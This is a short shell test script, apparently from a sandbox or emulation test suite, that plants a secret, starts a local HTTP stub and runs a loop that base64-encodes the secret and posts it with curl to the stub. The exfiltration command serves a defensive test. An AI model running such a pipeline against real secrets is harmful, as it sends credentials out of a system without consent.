#!/bin/sh
# Reads a key with base64 in a pipe to curl, which posts it to a stub.
# Needs: curl base64
# Wants: steady
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

put_secret
serve_http
inside sh -c "for try in 1 2 3 4 5 6; do base64 $secret | curl -sS --data-binary @- ${url}in; sleep 0.5; done" </dev/null >/dev/null
